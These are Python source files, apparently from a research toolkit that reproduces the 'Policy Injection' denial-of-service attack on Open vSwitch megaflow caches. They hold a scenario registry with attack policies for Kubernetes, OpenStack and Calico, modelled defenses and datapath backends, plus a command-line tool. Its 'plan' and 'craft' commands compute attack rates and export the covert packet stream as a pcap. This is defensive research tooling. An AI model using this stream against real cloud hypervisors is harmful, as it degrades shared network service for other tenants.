        paper_masks=8,
        policy_builder=lambda: single_prefix_policy("10.0.0.0/8"),
        cms_factory=KubernetesCms,
    ),
)
SURFACES.register(
    "k8s",
    Surface(
        name="k8s",
        description="Kubernetes NetworkPolicy: ip_src + tp_dst (512 masks)",
        cms_name="kubernetes",
        fields="ip_src/32, tp_dst/16",
        short_label="ip_src+tp_dst",
        scenario_label="ip_src + tp_dst",
        paper_masks=512,
        policy_builder=kubernetes_attack_policy,
        cms_factory=KubernetesCms,
    ),
)
SURFACES.register(
    "openstack",
    Surface(
        name="openstack",
        description="OpenStack security group: ip_src + tp_dst (512 masks)",
        cms_name="openstack",
        fields="ip_src/32, tp_dst/16",
        short_label="ip_src+tp_dst",
        scenario_label="ip_src + tp_dst",
        paper_masks=512,
        policy_builder=openstack_attack_security_group,
        cms_factory=OpenStackCms,
    ),
)
SURFACES.register(
    "calico",
    Surface(
        name="calico",
        description="Calico with source ports: full-blown DoS (8192 masks)",
        cms_name="calico",
        fields="ip_src/32, tp_dst/16, tp_src/16",
        short_label="ip+dport+sport",
        scenario_label="ip_src + tp_dst + tp_src",
        paper_masks=8192,
        policy_builder=calico_attack_policy,
        cms_factory=CalicoCms,
    ),
)


def _fig2_policy() -> tuple[object, list[AttackDimension]]:
    from repro.experiments.fig2 import FIG2_ALLOW_VALUE, build_fig2_table

    dimension = AttackDimension("ip_src", FIG2_ALLOW_VALUE, 8, 8)
    return build_fig2_table(), [dimension]


def _fig2_rules() -> list[FlowRule]:
    from repro.experiments.fig2 import build_fig2_table

    return list(build_fig2_table())


def _fig2_keys(_dimensions: Sequence[AttackDimension], _target: PolicyTarget,
               space: FieldSpace) -> list[FlowKey]:
    from repro.experiments.fig2 import fig2_packet_sequence

    return fig2_packet_sequence(space)


SURFACES.register(
    "fig2",
    Surface(
        name="fig2",
        description="the Fig. 2 toy: one-field binary ACL (9 megaflows)",
        cms_name="toy",
        fields="ip_src/8",
        short_label="fig2 toy ACL",
        scenario_label="fig2 toy ACL",
        paper_masks=8,
        policy_builder=_fig2_policy,
        space_factory=toy_single_field_space,
        rules_builder=_fig2_rules,
        key_builder=_fig2_keys,
    ),
)


# ---------------------------------------------------------------------------
# defenses
# ---------------------------------------------------------------------------

class DefenseAgent:
    """One configured defense, attachable to a single session run.

    Subclasses override :meth:`attach` (install guards), :meth:`events`
    (timed operator responses) and :meth:`tradeoff` (the cost side of
    the mitigation, reported after the run).
    """

    label = "none (baseline)"
    #: extra settle time before post-attack means are representative
    #: (reactive defenses need their response to have landed)
    settle = 10.0

    def attach(self, datapath: Datapath) -> None:
        """Hook the defense into the datapath before the run."""

    def events(self, attack_start: float):
        """Timed ``(when, action(switch))`` events to merge in."""
        return []

    def tradeoff(self) -> str:
        """The defense's cost, after the run."""
        return "-"


class _GuardDefense(DefenseAgent):
    """A defense realised as a megaflow install guard."""

    def __init__(self, label: str, guard, tradeoff_fn: Callable[[], str]) -> None:
        self.label = label
        self.guard = guard
        self._tradeoff_fn = tradeoff_fn

    def attach(self, datapath: Datapath) -> None:
        datapath.add_install_guard(self.guard)

    def tradeoff(self) -> str:
        return self._tradeoff_fn()


class _DetectorDefense(DefenseAgent):
    """Mask-anomaly detection plus tenant eviction, some time after the
    attack starts (the operator's reaction lag)."""

    def __init__(self, threshold: int = 64, respond_delay: float = 20.0) -> None:
        self.detector = MaskAnomalyDetector(threshold=threshold)
        self.respond_delay = respond_delay
        self.label = f"anomaly detector (+{respond_delay:.0f} s)"
        self.settle = respond_delay + 5.0

    def attach(self, datapath: Datapath) -> None:
        # fail at build time, like guard defenses do, rather than when
        # the observe event fires mid-run
        if not getattr(datapath, "has_flow_cache", True):
            raise ValueError(
                "the mask-anomaly detector observes the megaflow cache; "
                "the cacheless backend has none to observe"
            )

    def events(self, attack_start: float):
        def respond(switch: OvsSwitch) -> None:
            # a sharded datapath is observed per PMD shard (each has its
            # own megaflow cache); the unsharded switch is its own shard
            for shard in shard_views(switch):
                verdict = self.detector.observe(shard)
                for tenant in verdict.flagged:
                    self.detector.respond(shard, tenant)

        return [(attack_start + self.respond_delay, respond)]

    def tradeoff(self) -> str:
        flagged = self.detector.history[-1].flagged if self.detector.history else []
        return f"flagged {flagged or 'nobody'}; tenant disconnected"


DEFENSES: Registry[Callable[..., DefenseAgent]] = Registry("defense")


@DEFENSES.register("none")
def _none_defense() -> DefenseAgent:
    return DefenseAgent()


@DEFENSES.register("mask-limit")
def _mask_limit(max_masks: int = 64, mode: str = "exact") -> DefenseAgent:
    guard = MaskLimitGuard(max_masks=max_masks, mode=mode)
    return _GuardDefense(
        f"mask limit ({max_masks})",
        guard,
        lambda: f"{guard.degraded} megaflows degraded to exact-match"
        if mode == "exact"
        else f"{guard.rejected} installs rejected",
    )


@DEFENSES.register("rate-limit")
def _rate_limit(rate_per_sec: float = 100.0, burst: float = 200.0) -> DefenseAgent:
    guard = UpcallRateLimitGuard(rate_per_sec=rate_per_sec, burst=burst)
    return _GuardDefense(
        f"install rate limit ({rate_per_sec:.0f}/s)",
        guard,
        lambda: f"{guard.throttled} installs throttled (adds flow-setup latency)",
    )


@DEFENSES.register("prefix-rounding")
def _prefix_rounding(granularity: int = 8) -> DefenseAgent:
    guard = PrefixRoundingGuard(granularity=granularity)
    return _GuardDefense(
        f"prefix rounding (g={granularity})",
        guard,
        lambda: f"{guard.coarsened} megaflows narrowed (less cache coverage)",
    )


@DEFENSES.register("detector")
def _detector(threshold: int = 64, respond_delay: float = 20.0) -> DefenseAgent:
    return _DetectorDefense(threshold=threshold, respond_delay=respond_delay)


# ---------------------------------------------------------------------------
# classifier backends
# ---------------------------------------------------------------------------

#: a backend builder:
#: (profile, space, name, seed, staged, scan_order, key_mode, shards,
#: reta_size, rebalance_interval, rebalance_improvement,
#: rebalance_load_floor) -> Datapath.  ``shards`` / ``reta_size`` /
#: the ``rebalance_*`` knobs resolve as spec override or profile
#: default; builders without a sharded variant must reject shards > 1
#: (and a requested rebalance) rather than silently ignore the axis.
BackendBuilder = Callable[..., Datapath]

BACKENDS: Registry[BackendBuilder] = Registry("datapath backend")


def _reject_unsharded_rebalance(
    backend: str,
    rebalance_improvement: float | None,
    rebalance_load_floor: float | None,
) -> None:
    """Fail loudly when auto-lb tuning knobs reach a datapath with no
    rebalancer (one shard, or no shards at all) — they would otherwise
    be silently ignored, the plumbing gap this validation closes."""
    if rebalance_improvement:
        raise ValueError(
            f"rebalance_improvement tunes the multi-PMD auto-lb; the "
            f"{backend} datapath being built has no rebalancer (need "
            "shards > 1, or the 'sharded' backend)"
        )
    if rebalance_load_floor:
        raise ValueError(
            f"rebalance_load_floor tunes the multi-PMD auto-lb; the "
            f"{backend} datapath being built has no rebalancer (need "
            "shards > 1, or the 'sharded' backend)"
        )


@BACKENDS.register("ovs")
def _ovs_backend(profile: DatapathProfile, space: FieldSpace, name: str,
                 seed: int = 0, staged: bool = False, scan_order: str = "",
                 key_mode: str = "packed", shards: int = 1,
                 reta_size: int = 0,
                 rebalance_interval: float | None = None,
                 rebalance_improvement: float | None = None,
                 rebalance_load_floor: float | None = None) -> Datapath:
    if shards > 1:
        return sharded_switch_for_profile(
            profile, space=space, name=name, shards=shards,
            staged_lookup=staged, seed=seed, scan_order=scan_order or None,
            key_mode=key_mode, reta_size=reta_size,
            rebalance_interval=rebalance_interval,
            rebalance_improvement=rebalance_improvement,
            rebalance_load_floor=rebalance_load_floor,
        )
    _reject_unsharded_rebalance(
        "ovs (shards=1)", rebalance_improvement, rebalance_load_floor
    )
    return switch_for_profile(
        profile, space=space, name=name, staged_lookup=staged, seed=seed,
        scan_order=scan_order or None, key_mode=key_mode,
    )


@BACKENDS.register("ovs-vec")
def _ovs_vec_backend(profile: DatapathProfile, space: FieldSpace, name: str,
                     seed: int = 0, staged: bool = False, scan_order: str = "",
                     key_mode: str = "packed", shards: int = 1,
                     reta_size: int = 0,
                     rebalance_interval: float | None = None,
                     rebalance_improvement: float | None = None,
                     rebalance_load_floor: float | None = None) -> Datapath:
    """The columnar vectorized engine (:mod:`repro.vec`) — bit-identical
    to ``ovs`` with the same arguments, just faster on bursts.  The
    import is deferred so listing backends works without NumPy; asking
    for this backend without it raises a clear
    :class:`~repro.vec.NumpyUnavailableError`."""
    from repro.vec import require_numpy

    require_numpy("the ovs-vec backend")
    from repro.vec.engine import VecSwitch

    if shards > 1:
        return sharded_switch_for_profile(
            profile, space=space, name=name, shards=shards,
            staged_lookup=staged, seed=seed, scan_order=scan_order or None,
            key_mode=key_mode, reta_size=reta_size,
            rebalance_interval=rebalance_interval,
            rebalance_improvement=rebalance_improvement,
            rebalance_load_floor=rebalance_load_floor,
            switch_cls=VecSwitch,
        )
    _reject_unsharded_rebalance(
        "ovs-vec (shards=1)", rebalance_improvement, rebalance_load_floor
    )
    return switch_for_profile(
        profile, space=space, name=name, staged_lookup=staged, seed=seed,
        scan_order=scan_order or None, key_mode=key_mode,
        switch_cls=VecSwitch,
    )


@BACKENDS.register("ovs-vec-auto")
def _ovs_vec_auto_backend(profile: DatapathProfile, space: FieldSpace,
                          name: str, **kwargs) -> Datapath:
    """``ovs-vec`` when NumPy is importable, the scalar ``ovs`` engine
    otherwise — with a loud warning on the fallback, never a silent
    behaviour change.  Both engines are pinned bit-identical, so the
    choice only moves wall clock; wall-clock-bound presets (fleet,
    multi-PMD, degradation sweeps) use this as their default backend."""
    from repro.vec import HAVE_NUMPY

    if HAVE_NUMPY:
        return _ovs_vec_backend(profile, space, name, **kwargs)
    import warnings

    warnings.warn(
        "numpy is not installed: the ovs-vec-auto backend is falling "
        "back to the scalar 'ovs' engine (bit-identical results, "
        "slower wall clock)",
        RuntimeWarning,
        stacklevel=2,
    )
    return _ovs_backend(profile, space, name, **kwargs)


@BACKENDS.register("sharded")
def _sharded_backend(profile: DatapathProfile, space: FieldSpace, name: str,
                     seed: int = 0, staged: bool = False, scan_order: str = "",
                     key_mode: str = "packed", shards: int = 1,
                     reta_size: int = 0,
                     rebalance_interval: float | None = None,
                     rebalance_improvement: float | None = None,
                     rebalance_load_floor: float | None = None) -> Datapath:
    """The multi-PMD datapath, explicitly — even at ``shards=1``, where
    it is observationally identical to the ``ovs`` backend (the
    equivalence the test suite pins)."""
    return sharded_switch_for_profile(
        profile, space=space, name=name, shards=shards,
        staged_lookup=staged, seed=seed, scan_order=scan_order or None,
        key_mode=key_mode, reta_size=reta_size,
        rebalance_interval=rebalance_interval,
        rebalance_improvement=rebalance_improvement,
        rebalance_load_floor=rebalance_load_floor,
    )


@BACKENDS.register("ovs-tuple")
def _ovs_tuple_backend(profile: DatapathProfile, space: FieldSpace, name: str,
                       seed: int = 0, staged: bool = False, scan_order: str = "",
                       shards: int = 1, reta_size: int = 0,
                       rebalance_interval: float | None = None,
                       rebalance_improvement: float | None = None,
                       rebalance_load_floor: float | None = None,
                       **_ignored) -> Datapath:
    """The tuple-keyed reference TSS (the packed fast path's checked
    baseline) — run any scenario through it to cross-validate results.
    Pins ``key_mode="tuple"``; a spec's ``key_mode`` is ignored here
    (that is this backend's entire point)."""
    if shards > 1:
        return sharded_switch_for_profile(
            profile, space=space, name=name, shards=shards,
            staged_lookup=staged, seed=seed, scan_order=scan_order or None,
            key_mode="tuple", reta_size=reta_size,
            rebalance_interval=rebalance_interval,
            rebalance_improvement=rebalance_improvement,
            rebalance_load_floor=rebalance_load_floor,
        )
    _reject_unsharded_rebalance(
        "ovs-tuple (shards=1)", rebalance_improvement, rebalance_load_floor
    )
    return switch_for_profile(
        profile, space=space, name=name, staged_lookup=staged, seed=seed,
        scan_order=scan_order or None, key_mode="tuple",
    )


@BACKENDS.register("cacheless")
def _cacheless_backend(profile: DatapathProfile, space: FieldSpace, name: str,
                       seed: int = 0, staged: bool = False, scan_order: str = "",
                       key_mode: str = "packed", shards: int = 1,
                       reta_size: int = 0,
                       rebalance_interval: float | None = None,
                       rebalance_improvement: float | None = None,
                       rebalance_load_floor: float | None = None) -> Datapath:
    if shards > 1:
        raise ValueError(
            "the cacheless backend has no sharded variant (its per-packet "
            "cost is already attack-independent); use shards=1"
        )
    if rebalance_interval:
        raise ValueError(
            "the cacheless backend has no PMD shards to rebalance; "
            "leave rebalance_interval unset (or 0)"
        )
    _reject_unsharded_rebalance(
        "cacheless", rebalance_improvement, rebalance_load_floor
    )
    return CachelessDatapath(space, name=name)


@BACKENDS.register("parallel")
def _parallel_backend(profile: DatapathProfile, space: FieldSpace, name: str,
                      seed: int = 0, staged: bool = False, scan_order: str = "",
                      key_mode: str = "packed", shards: int = 1,
                      reta_size: int = 0,
                      rebalance_interval: float | None = None,
                      rebalance_improvement: float | None = None,
                      rebalance_load_floor: float | None = None) -> Datapath:
    """The multi-process runtime: each PMD shard's switch on its own
    worker process, fed over the aggregate-only mailbox (see
    :mod:`repro.runtime.parallel`).  Shard construction matches the
    ``sharded`` backend exactly, so a spec can swap between them and
    compare observables.  Aggregate-only by design: probe-style runs
    (``Session.measure``) work; campaigns and defenses, which need
    per-packet results or parent-side cache entries, fail loudly.  The
    import is deferred so listing backends never forks anything."""
    if rebalance_interval:
        raise ValueError(
            "the parallel runtime cannot run the PMD auto-lb (no "
            "per-bucket load crosses the aggregate-only wire); use the "
            "'sharded' backend for rebalancing studies"
        )
    _reject_unsharded_rebalance(
        "parallel", rebalance_improvement, rebalance_load_floor
    )
    from repro.runtime.parallel import ParallelDatapath

    return ParallelDatapath.from_profile(
        profile, space=space, name=name, shards=shards,
        staged_lookup=staged, seed=seed, scan_order=scan_order or None,
        key_mode=key_mode, reta_size=reta_size,
    )
