"""Command-line interface: ``python -m repro <command>``.

Commands
--------

``plan``
    Closed-form attack planning: given a CMS surface, print the
    reachable mask count, the covert packets/bandwidth needed, and the
    expected degradation — the paper's numbers from one shell command.

``craft``
    Generate the covert stream as a pcap for lab replay.

``experiment``
    Run one (or all) of the paper-artefact experiments; thin wrapper
    around :mod:`repro.experiments.runner`.

``demo``
    The Fig. 2 worked example, printed.
"""

from __future__ import annotations

import argparse
import sys

from repro.attack.analysis import predict, required_refresh_bps
from repro.attack.packets import CovertStreamGenerator
from repro.attack.policy import (
    calico_attack_policy,
    kubernetes_attack_policy,
    openstack_attack_security_group,
    single_prefix_policy,
)
from repro.net.addresses import ip_to_int
from repro.util.units import format_bps

_SURFACES = {
    "k8s": kubernetes_attack_policy,
    "openstack": openstack_attack_security_group,
    "calico": calico_attack_policy,
    "prefix8": lambda: single_prefix_policy("10.0.0.0/8"),
}


def _surface_dimensions(surface: str):
    try:
        builder = _SURFACES[surface]
    except KeyError:
        raise SystemExit(
            f"unknown surface {surface!r}; choose from {sorted(_SURFACES)}"
        )
    _policy, dimensions = builder()
    return dimensions


def cmd_plan(args: argparse.Namespace) -> int:
    """The ``plan`` command."""
    dimensions = _surface_dimensions(args.surface)
    prediction = predict(dimensions, frame_bytes=args.frame_bytes)
    print(f"surface: {args.surface}")
    print(f"attack dimensions: " + ", ".join(
        f"{d.field}/{d.prefix_len}" for d in dimensions
    ))
    print(f"reachable megaflow masks: {prediction.mask_count}")
    print(f"covert packets to install: {prediction.covert_packets}")
    print(
        f"sustain rate: {prediction.refresh_pps:.0f} pps "
        f"({format_bps(prediction.refresh_bps)})"
    )
    print(
        f"expected peak capacity under attack: "
        f"{prediction.expected_degradation:.1%} of baseline"
    )
    return 0


def cmd_craft(args: argparse.Namespace) -> int:
    """The ``craft`` command."""
    dimensions = _surface_dimensions(args.surface)
    generator = CovertStreamGenerator(dimensions, dst_ip=ip_to_int(args.dst_ip))
    rate = args.rate_pps
    if rate is None:
        # 50% headroom above the refresh floor
        floor_bps = required_refresh_bps(predict(dimensions).mask_count)
        rate = floor_bps / (64 * 8) * 1.5
    count = generator.write_pcap(args.output, rate_pps=rate)
    print(f"wrote {count} covert frames to {args.output} at {rate:.0f} pps")
    return 0


def cmd_experiment(args: argparse.Namespace) -> int:
    """The ``experiment`` command."""
    from repro.experiments import runner

    return runner.main(args.names or ["all"])


def cmd_demo(_args: argparse.Namespace) -> int:
    """The ``demo`` command."""
    from repro.experiments.fig2 import run_fig2

    print(run_fig2().render())
    return 0


def build_parser() -> argparse.ArgumentParser:
    """The top-level argument parser."""
    parser = argparse.ArgumentParser(
        prog="repro",
        description="Policy Injection (SIGCOMM'18) reproduction toolkit",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    plan = sub.add_parser("plan", help="closed-form attack planning")
    plan.add_argument("surface", choices=sorted(_SURFACES))
    plan.add_argument("--frame-bytes", type=int, default=64)
    plan.set_defaults(func=cmd_plan)

    craft = sub.add_parser("craft", help="export the covert stream as pcap")
    craft.add_argument("surface", choices=sorted(_SURFACES))
    craft.add_argument("output")
    craft.add_argument("--dst-ip", default="10.0.9.20")
    craft.add_argument("--rate-pps", type=float, default=None)
    craft.set_defaults(func=cmd_craft)

    experiment = sub.add_parser("experiment", help="run paper experiments")
    experiment.add_argument("names", nargs="*", help="experiment ids (default: all)")
    experiment.set_defaults(func=cmd_experiment)

    demo = sub.add_parser("demo", help="print the Fig. 2 worked example")
    demo.set_defaults(func=cmd_demo)

    return parser


def main(argv: list[str] | None = None) -> int:
    """CLI entry point."""
    args = build_parser().parse_args(argv)
    return args.func(args)


if __name__ == "__main__":
    sys.exit(main())
