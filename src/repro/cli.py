"""Command-line interface: ``python -m repro <command>``.

Commands
--------

``plan``
    Closed-form attack planning: given a CMS surface, print the
    reachable mask count, the covert packets/bandwidth needed, and the
    expected degradation — the paper's numbers from one shell command.

``craft``
    Generate the covert stream as a pcap for lab replay.

``scenario``
    Run any registered scenario through the Session API
    (``--list`` enumerates scenarios, surfaces, profiles, backends and
    defenses; flags override the spec's timing/backend knobs).

``fleet``
    Run a registered fleet campaign through the FleetSession API: N
    hypervisor nodes on the fabric under one deterministic event loop,
    with attacker mobility and fleet-level defenses (``--list``
    enumerates fleet presets and mobility policies).

``serve``
    The long-running packet service: replay a pcap (e.g. one written
    by ``craft``) or the scenario's synthetic covert feed through a
    live datapath — the serial reference or the multi-process parallel
    runtime (``--workers N``) — with periodic stats/detector snapshots
    and a clean SIGINT/SIGTERM shutdown.

``trace``
    Run a scenario with the telemetry layer enabled and export the
    observability artifacts: a Chrome trace-event JSON (loadable in
    Perfetto / ``chrome://tracing``), the span JSONL, the
    cycle-attribution profile, and the Prometheus metrics text.
    ``scenario``/``fleet``/``serve`` additionally take
    ``--metrics-out FILE`` to dump the metric registry after any run.

``lint``
    Run repro-lint, the repo's contract checkers (seeded-RNG
    determinism, monotonic clocks, batch-first hot paths, numpy
    gating, fork safety, protocol conformance, registry hygiene);
    ``--list`` enumerates the rules, exit status is non-zero on any
    non-baselined finding.

``experiment``
    Run one (or all) of the paper-artefact experiments; thin wrapper
    around :mod:`repro.experiments.runner`.

``demo``
    The Fig. 2 worked example, printed.
"""

from __future__ import annotations

import argparse
import sys
from pathlib import Path

from repro.attack.analysis import predict, required_refresh_bps
from repro.attack.packets import CovertStreamGenerator
from repro.net.addresses import ip_to_int
from repro.ovs.tss import KEY_MODES, SCAN_ORDERS
from repro.scenario import BACKENDS, DEFENSES, PROFILES, SCENARIOS, SURFACES, Session
from repro.util.units import format_bps
from repro.vec import HAVE_NUMPY, NumpyUnavailableError


def _make_telemetry(args: argparse.Namespace):
    """A live registry when the run asked for ``--metrics-out``,
    ``None`` (→ the shared null telemetry, zero overhead) otherwise."""
    if getattr(args, "metrics_out", None) is None:
        return None
    from repro.obs import Telemetry

    return Telemetry()


def _write_metrics_out(args: argparse.Namespace, telemetry) -> None:
    if telemetry is None:
        return
    from repro.obs.export import write_metrics

    written = write_metrics(telemetry, args.metrics_out)
    print(f"\nmetrics written to {written}")


def _campaign_surfaces() -> list[str]:
    """Surface names with a CMS compiler (plan/craft targets)."""
    return [name for name, surface in SURFACES.items() if surface.is_campaign]


def _surface_dimensions(surface: str):
    try:
        entry = SURFACES.get(surface)
    except KeyError as exc:
        raise SystemExit(str(exc))
    _policy, dimensions = entry.build()
    return dimensions


def cmd_plan(args: argparse.Namespace) -> int:
    """The ``plan`` command."""
    dimensions = _surface_dimensions(args.surface)
    prediction = predict(dimensions, frame_bytes=args.frame_bytes)
    print(f"surface: {args.surface}")
    print(f"attack dimensions: " + ", ".join(
        f"{d.field}/{d.prefix_len}" for d in dimensions
    ))
    print(f"reachable megaflow masks: {prediction.mask_count}")
    print(f"covert packets to install: {prediction.covert_packets}")
    print(
        f"sustain rate: {prediction.refresh_pps:.0f} pps "
        f"({format_bps(prediction.refresh_bps)})"
    )
    print(
        f"expected peak capacity under attack: "
        f"{prediction.expected_degradation:.1%} of baseline"
    )
    return 0


def cmd_craft(args: argparse.Namespace) -> int:
    """The ``craft`` command."""
    dimensions = _surface_dimensions(args.surface)
    generator = CovertStreamGenerator(dimensions, dst_ip=ip_to_int(args.dst_ip))
    rate = args.rate_pps
    if rate is None:
        # 50% headroom above the refresh floor
        floor_bps = required_refresh_bps(predict(dimensions).mask_count)
        rate = floor_bps / (64 * 8) * 1.5
    count = generator.write_pcap(args.output, rate_pps=rate)
    print(f"wrote {count} covert frames to {args.output} at {rate:.0f} pps")
    return 0


def _backend_tag(backend: str) -> str:
    """The per-preset backend annotation for the ``--list`` views:
    which engine the preset runs on and whether it wants NumPy."""
    if backend == "ovs-vec":
        state = "numpy installed" if HAVE_NUMPY else "NUMPY MISSING"
        return f"[{backend}: needs numpy — {state}]"
    if backend == "ovs-vec-auto":
        state = (
            "numpy installed: vectorized"
            if HAVE_NUMPY
            else "no numpy: scalar fallback"
        )
        return f"[{backend}: {state}]"
    return f"[{backend}]"


def _print_scenario_list() -> None:
    print("scenarios:")
    for name, spec in SCENARIOS.items():
        print(
            f"  {name:24s} {_backend_tag(spec.backend):44s} "
            f"{spec.description or spec.surface}"
        )
    print("\nsurfaces:")
    for name, surface in SURFACES.items():
        print(f"  {name:24s} {surface.description}")
    print("\nprofiles:    " + ", ".join(PROFILES.names()))
    print("backends:    " + ", ".join(BACKENDS.names()))
    print("defenses:    " + ", ".join(DEFENSES.names()))
    print("scan orders: " + ", ".join(SCAN_ORDERS) + " (--scan-order)")
    print("key modes:   " + ", ".join(KEY_MODES) + " (--key-mode)")
    print("shards:      any N >= 1 (--shards; RSS-dispatched PMD shards)")
    print("rebalance:   --rebalance-interval SECONDS (0 = static RSS), "
          "--rebalance-improvement FRAC, --rebalance-load-floor PPS, "
          "--reta-size BUCKETS, --workload-skew ZIPF (elephant flows)")
    if not HAVE_NUMPY:
        print("note:        the 'ovs-vec' backend needs NumPy, which is not "
              "installed (pip install numpy)")


def cmd_scenario(args: argparse.Namespace) -> int:
    """The ``scenario`` command: the Session API from the shell."""
    if args.list:
        _print_scenario_list()
        return 0
    if args.name is None:
        raise SystemExit("scenario: a scenario name (or --list) is required")
    try:
        spec = SCENARIOS.get(args.name)
    except KeyError as exc:
        raise SystemExit(str(exc))
    overrides = {}
    for field_name in ("duration", "attack_start", "seed", "profile", "backend",
                       "scan_order", "key_mode", "shards", "reta_size",
                       "rebalance_interval", "rebalance_improvement",
                       "rebalance_load_floor", "workload_skew",
                       "attacker_strategy", "reprobe_interval"):
        value = getattr(args, field_name)
        if value is not None:
            overrides[field_name] = value
    if args.defense:
        overrides["defenses"] = tuple(args.defense)
    telemetry = _make_telemetry(args)
    try:
        if overrides:
            spec = spec.evolve(**overrides)
        result = Session(spec, telemetry=telemetry).run()
    except (KeyError, ValueError, NumpyUnavailableError) as exc:
        raise SystemExit(f"scenario {spec.name!r}: {exc}")
    print(result.render())
    if args.csv is not None:
        args.csv.mkdir(parents=True, exist_ok=True)
        written = result.to_csv(args.csv)
        print(f"\nCSV written to {written}")
    _write_metrics_out(args, telemetry)
    return 0


def _print_fleet_list() -> None:
    from repro.fleet import FLEETS, MOBILITY
    from repro.fleet.spec import FLEET_DEFENSES

    print("fleet campaigns:")
    for name, spec in FLEETS.items():
        print(
            f"  {name:24s} {_backend_tag(spec.scenario.backend):44s} "
            f"{spec.description or spec.scenario.surface}"
        )
    print("\nmobility:        " + ", ".join(MOBILITY.names()))
    print("fleet defenses:  " + ", ".join(FLEET_DEFENSES))
    print("per-node axes:   any scenario spec (see 'repro scenario --list')")


def cmd_fleet(args: argparse.Namespace) -> int:
    """The ``fleet`` command: the FleetSession API from the shell."""
    from repro.fleet import FLEETS, FleetSession

    if args.list:
        _print_fleet_list()
        return 0
    if args.name is None:
        raise SystemExit("fleet: a fleet campaign name (or --list) is required")
    try:
        spec = FLEETS.get(args.name)
    except KeyError as exc:
        raise SystemExit(str(exc))
    overrides = {}
    for field_name in ("nodes", "mobility", "dwell", "stagger",
                       "fleet_defense", "detect_interval"):
        value = getattr(args, field_name)
        if value is not None:
            overrides[field_name] = value
    scenario_overrides = {}
    for field_name in ("duration", "attack_start", "seed"):
        value = getattr(args, field_name)
        if value is not None:
            scenario_overrides[field_name] = value
    telemetry = _make_telemetry(args)
    try:
        if scenario_overrides:
            overrides["scenario"] = spec.scenario.evolve(**scenario_overrides)
        if overrides:
            spec = spec.evolve(**overrides)
        result = FleetSession(spec, telemetry=telemetry).run()
    except (KeyError, ValueError, NumpyUnavailableError) as exc:
        raise SystemExit(f"fleet {spec.name!r}: {exc}")
    print(result.render())
    if args.csv is not None:
        written = result.to_csv(args.csv)
        print(f"\nCSV written to {written} (+ one per node)")
    _write_metrics_out(args, telemetry)
    return 0


def cmd_serve(args: argparse.Namespace) -> int:
    """The ``serve`` command: the long-running packet service."""
    from repro.runtime.parallel import WorkerCrashError
    from repro.runtime.service import build_service

    try:
        spec = SCENARIOS.get(args.scenario)
    except KeyError as exc:
        raise SystemExit(str(exc))
    overrides = {}
    for field_name in ("profile", "seed", "shards"):
        value = getattr(args, field_name)
        if value is not None:
            overrides[field_name] = value
    telemetry = _make_telemetry(args)
    try:
        if overrides:
            spec = spec.evolve(**overrides)
        service = build_service(
            spec,
            workers=args.workers,
            pcap=args.pcap,
            rate_pps=args.rate_pps,
            duration=args.duration,
            max_packets=args.max_packets,
            batch_size=args.batch_size,
            report_interval=args.report_interval,
            detect_threshold=args.detect_threshold,
            telemetry=telemetry,
        )
    except (KeyError, ValueError) as exc:
        raise SystemExit(f"serve {spec.name!r}: {exc}")

    def live(snap: dict) -> None:
        state, wall = snap["state"], snap["wall"]
        alert = "  ** MASK ALERT **" if snap["detector"]["alert"] else ""
        print(
            f"t={state['time']:8.2f}s  packets={state['packets']:<10d} "
            f"masks(max/shard)={state['mask_count']:<6d} "
            f"megaflows={state['megaflows']:<7d} "
            f"upcalls={state['stats']['upcalls']:<8d} "
            f"{wall['pps']:10,.0f} pkt/s{alert}",
            flush=True,
        )

    try:
        report = service.run(on_snapshot=live)
    except WorkerCrashError as exc:
        print(f"\nFATAL: {exc}", file=sys.stderr)
        return 2
    print()
    print(report.render())
    if args.json is not None:
        import json

        args.json.write_text(json.dumps(report.to_dict(), indent=2) + "\n")
        print(f"\nJSON report written to {args.json}")
    _write_metrics_out(args, telemetry)
    return 0


def cmd_trace(args: argparse.Namespace) -> int:
    """The ``trace`` command: one scenario run, full observability."""
    import json

    from repro.obs import Telemetry
    from repro.obs.export import prometheus_text, telemetry_json

    try:
        spec = SCENARIOS.get(args.name)
    except KeyError as exc:
        raise SystemExit(str(exc))
    overrides = {}
    for field_name in ("duration", "attack_start", "seed", "backend",
                       "shards"):
        value = getattr(args, field_name)
        if value is not None:
            overrides[field_name] = value
    telemetry = Telemetry()
    try:
        if overrides:
            spec = spec.evolve(**overrides)
        result = Session(spec, telemetry=telemetry).run()
    except (KeyError, ValueError, NumpyUnavailableError) as exc:
        raise SystemExit(f"trace {spec.name!r}: {exc}")

    out: Path = args.output
    out.mkdir(parents=True, exist_ok=True)
    chrome = out / f"{spec.name}.trace.json"
    chrome.write_text(
        json.dumps(telemetry.trace.to_chrome_trace(), indent=2,
                   sort_keys=True) + "\n",
        encoding="utf-8",
    )
    jsonl = out / f"{spec.name}.trace.jsonl"
    jsonl.write_text(telemetry.trace.to_jsonl(), encoding="utf-8")
    profile = out / f"{spec.name}.profile.json"
    profile.write_text(
        json.dumps(telemetry.profile.to_dict(), indent=2, sort_keys=True)
        + "\n",
        encoding="utf-8",
    )
    metrics = out / f"{spec.name}.metrics.prom"
    metrics.write_text(prometheus_text(telemetry), encoding="utf-8")
    snapshot = out / f"{spec.name}.snapshot.json"
    snapshot.write_text(telemetry_json(telemetry), encoding="utf-8")

    print(result.headline())
    print()
    print(telemetry.profile.render(min_percent=args.min_percent))
    summary = telemetry.trace.summary()
    print(
        f"\ntrace: {summary['events']} span(s) buffered "
        f"({summary['recorded']} recorded, {summary['dropped']} dropped)"
    )
    print(f"artifacts in {out}/:")
    for path in (chrome, jsonl, profile, metrics, snapshot):
        print(f"  {path.name}")
    print("load the .trace.json in https://ui.perfetto.dev "
          "(or chrome://tracing)")
    return 0


def cmd_lint(args: argparse.Namespace) -> int:
    """The ``lint`` command: the repro-lint contract checkers."""
    from repro.analysis.runner import execute

    return execute(args)


def cmd_experiment(args: argparse.Namespace) -> int:
    """The ``experiment`` command."""
    from repro.experiments import runner

    return runner.main(args.names or ["all"])


def cmd_demo(_args: argparse.Namespace) -> int:
    """The ``demo`` command."""
    from repro.experiments.fig2 import run_fig2

    print(run_fig2().render())
    return 0


def build_parser() -> argparse.ArgumentParser:
    """The top-level argument parser."""
    parser = argparse.ArgumentParser(
        prog="repro",
        description="Policy Injection (SIGCOMM'18) reproduction toolkit",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    plan = sub.add_parser("plan", help="closed-form attack planning")
    plan.add_argument("surface", choices=sorted(_campaign_surfaces()))
    plan.add_argument("--frame-bytes", type=int, default=64)
    plan.set_defaults(func=cmd_plan)

    craft = sub.add_parser("craft", help="export the covert stream as pcap")
